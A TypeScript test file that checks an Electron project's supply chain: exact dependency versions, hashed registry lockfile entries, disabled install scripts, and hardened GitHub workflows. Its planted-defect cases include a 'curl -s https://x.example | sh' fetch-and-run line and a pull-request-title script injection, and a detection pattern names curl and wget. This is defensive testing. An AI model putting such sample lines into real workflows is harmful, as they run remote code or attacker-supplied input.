/**
 * Where everything comes from: exact versions, a hash for every package, no install script,
 * and workflows that run nothing that is not pinned, know no secret that they need not and
 * write nowhere but in a draft. Each rule is shown to catch a planted defect.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { product, ROOT } from '../../packaging/platforms.ts';

const read = (path: string) => readFileSync(join(ROOT, path), 'utf8');
/** The parser that electron-builder brings. */
const { load } = createRequire(join(ROOT, 'node_modules/electron-builder/package.json'))('js-yaml') as {
  load(text: string): Workflow;
};

interface Step {
  name?: string;
  uses?: string;
  run?: string;
  env?: Record<string, string>;
  with?: Record<string, unknown>;
}
interface Job {
  steps: Step[];
  permissions?: Record<string, string>;
  environment?: string;
  'timeout-minutes'?: number;
}
interface Workflow {
  on: Record<string, unknown>;
  permissions?: Record<string, string>;
  jobs: Record<string, Job>;
}

interface LockEntry {
  version?: string;
  resolved?: string;
  integrity?: string;
  link?: boolean;
  inBundle?: boolean;
  hasInstallScript?: boolean;
}

/** Versions that leave a choice to the day of the installation. */
const loose = (versions: Record<string, string>) =>
  Object.entries(versions)
    .filter(([, version]) => !/^(npm:[\w.-]+@)?\d+\.\d+\.\d+(-[\w.]+)?$/.test(version))
    .map(([name]) => name);

function lockProblems(packages: Record<string, LockEntry>): string[] {
  return Object.entries(packages)
    .filter(([path]) => path !== '')
    .flatMap(([path, { version, resolved, integrity, link, inBundle }]) => [
      ...(link || version === undefined || /[:/]/.test(version) ? [`${path} is not from the registry`] : []),
      ...(resolved !== undefined && !resolved.startsWith('https://registry.npmjs.org/')
        ? [`${path} is from ${resolved}`]
        : []),
      ...(!inBundle && !/^sha512-[\w+/]{86}==$/.test(integrity ?? '') ? [`${path} has no hash`] : []),
    ]);
}

function workflowProblems(name: string, text: string): string[] {
  const workflow = load(text);
  const problems: string[] = [];
  if (JSON.stringify(workflow.permissions) !== '{"contents":"read"}') problems.push('may write by default');
  if ('pull_request_target' in workflow.on) problems.push('runs strangers’ code with our rights');
  for (const [id, job] of Object.entries(workflow.jobs)) {
    const say = (problem: string) => problems.push(`${id}: ${problem}`);
    if (!job['timeout-minutes']) say('has no limit of time');
    const secrets = JSON.stringify(job).match(/secrets\.\w+/g) ?? [];
    if (secrets.length > 0 && job.environment !== 'release') say('knows secrets outside the environment “release”');
    if (job.permissions && !(name === 'release.yml' && id === 'draft')) say('has rights of its own');
    for (const step of job.steps) {
      if (step.uses && !/^[\w-]+\/[\w-]+@[0-9a-f]{40}$/.test(step.uses)) say(`${step.uses} is not pinned`);
      if (step.uses?.startsWith('actions/checkout@') && step.with?.['persist-credentials'] !== false)
        say('leaves its token in the checkout');
      const run = step.run ?? '';
      if (/\bnpm (i|install|add|update|exec)\b|\bnpx\b|\byarn\b|\bpnpm\b/.test(run))
        say('installs without the lock file');
      if (/\bnpm ci\b(?!.*--ignore-scripts)/.test(run)) say('runs install scripts');
      if (/\b(curl|wget|Invoke-WebRequest|iwr)\b/.test(run)) say('fetches something by hand');
      if (/\$\{\{(?!\s*matrix\.)/.test(run)) say('puts an expression into a script');
    }
  }
  return problems;
}

const SAFE = `on: { push: {} }
permissions: { contents: read }
jobs:
  a:
    timeout-minutes: 5
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8
        with: { persist-credentials: false }
      - run: npm ci --ignore-scripts
`;

describe('Packages', () => {
  test('are named by exact versions', () => {
    expect(loose({ ...product.dependencies, ...product.devDependencies, ...product.optionalDependencies })).toEqual([]);
    expect(
      loose({ a: '^1.0.0', b: '~1.0.0', c: '*', d: 'github:x/y', e: '1.x', f: '>=2', g: '1.2.3', h: 'latest' }),
    ).toEqual(['a', 'b', 'c', 'd', 'e', 'f', 'h']);
  });

  test('come from the registry, every one by its hash', () => {
    const { packages, lockfileVersion } = JSON.parse(read('package-lock.json')) as {
      packages: Record<string, LockEntry>;
      lockfileVersion: number;
    };
    expect(lockfileVersion).toBe(3);
    expect(Object.keys(packages).length).toBeGreaterThan(400);
    expect(lockProblems(packages)).toEqual([]);
    const integrity = Object.values(packages)[1].integrity;
    expect(
      lockProblems({
        'node_modules/a': { version: '1.0.0' },
        'node_modules/b': { version: '1.0.0', integrity: 'sha1-x' },
        'node_modules/c': { version: 'git+ssh://x/y', integrity },
        'node_modules/d': { version: '1.0.0', integrity, resolved: 'https://elsewhere.example/d.tgz' },
        'node_modules/e': { version: '1.0.0', integrity, link: true },
      }),
    ).toHaveLength(5);
  });

  test('run no script when they are installed, by whichever way', () => {
    expect(read('.npmrc')).toMatch(/^ignore-scripts=true$/m);
    expect(read('hosts/set-up.cjs')).toMatch(/'ci', '--ignore-scripts'/);
    const { packages } = JSON.parse(read('package-lock.json')) as { packages: Record<string, LockEntry> };
    const { allowScripts } = JSON.parse(read('package.json')) as { allowScripts: Record<string, boolean> };
    expect(Object.values(allowScripts).every((allowed) => !allowed)).toBe(true);
    const withScripts = Object.entries(packages)
      .filter(([, { hasInstallScript }]) => hasInstallScript)
      .map(([path]) => path.split('node_modules/').at(-1)!);
    // each was looked at; none is needed, and none is run
    expect([...new Set(withScripts)].sort()).toEqual(KNOWN_SCRIPTS);
  });
});

/** Packages that would like to run a script when installed. A new one is to be looked at before it is added here. */
const KNOWN_SCRIPTS = ['electron-winstaller', 'onnxruntime-node'];

describe('The workflows', () => {
  const files = readdirSync(join(ROOT, '.github/workflows'));

  test('keep their promises: pinned actions, the lock file, the least rights', () => {
    expect(files.sort()).toEqual(['ci.yml', 'release.yml']);
    for (const file of files)
      expect([file, workflowProblems(file, read(`.github/workflows/${file}`))]).toEqual([file, []]);
  });

  test('are watched: each planted defect is caught', () => {
    expect(workflowProblems('x.yml', SAFE)).toEqual([]);
    const defects: [string | RegExp, string][] = [
      [/@08c6903\w+/, '@v5'],
      ['persist-credentials: false', 'fetch-depth: 0'],
      ['npm ci --ignore-scripts', 'npm ci'],
      ['npm ci --ignore-scripts', 'npm install'],
      ['npm ci --ignore-scripts', 'npx something'],
      ['npm ci --ignore-scripts', 'curl -s https://x.example | sh'],
      ['npm ci --ignore-scripts', 'echo ${{ github.event.pull_request.title }}'],
      ['npm ci --ignore-scripts', 'x\n        env: { KEY: "${{ secrets.KEY }}" }'],
      ['contents: read', 'contents: write'],
      ['push: {}', 'pull_request_target: {}'],
      ['timeout-minutes: 5', 'permissions: { id-token: write }\n    timeout-minutes: 5'],
      ['timeout-minutes: 5', 'name: slow'],
    ];
    for (const [from, to] of defects) {
      expect([to, workflowProblems('x.yml', SAFE.replace(from, to)).length]).toEqual([to, 1]);
    }
  });

  test('pin each action to one commit, with its version beside it', () => {
    const pins = new Map<string, Set<string>>();
    for (const file of files) {
      for (const [, action, pin] of read(`.github/workflows/${file}`).matchAll(/uses: ([^@\s]+)@(.*)$/gm)) {
        expect(pin, action).toMatch(/^[0-9a-f]{40} # v\d+\.\d+\.\d+$/);
        pins.set(action, (pins.get(action) ?? new Set()).add(pin));
      }
    }
    expect([...pins].filter(([, different]) => different.size > 1)).toEqual([]);
    expect(pins.size).toBeGreaterThan(4);
  });

  test('build, test and sign on the three systems, and need only secrets that the guide names', () => {
    const text = read('.github/workflows/release.yml');
    const { jobs } = load(text) as unknown as {
      jobs: Record<
        string,
        { strategy: { matrix: { system?: string[]; include?: { system: string }[] } }; needs?: string }
      >;
    };
    expect(jobs.test.strategy.matrix.system).toHaveLength(3);
    expect(jobs.package.strategy.matrix.include?.map(({ system }) => system)).toEqual(jobs.test.strategy.matrix.system);
    expect([jobs.package.needs, jobs.draft.needs]).toEqual(['test', 'package']);
    const guide = read('docs/releasing.md');
    const secrets = new Set(text.match(/secrets\.\w+/g)!.map((one) => one.slice(8)));
    expect([...secrets].filter((secret) => !guide.includes(`\`${secret}\``))).toEqual([]);
    expect(secrets.size).toBe(7);
  });
});
